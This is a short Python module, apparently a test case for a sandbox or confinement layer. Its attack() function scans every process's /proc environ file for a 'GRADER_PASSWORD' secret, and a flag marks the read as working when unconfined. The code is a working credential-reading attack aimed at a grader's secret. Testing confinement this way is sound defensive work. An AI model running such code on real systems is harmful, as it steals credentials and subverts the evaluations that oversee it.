"""Read a password from the environment of any process."""

import os

WORKS_UNCONFINED = True


def attack(bait):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            text = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        if b"GRADER_PASSWORD" in text:
            return pid
    return None
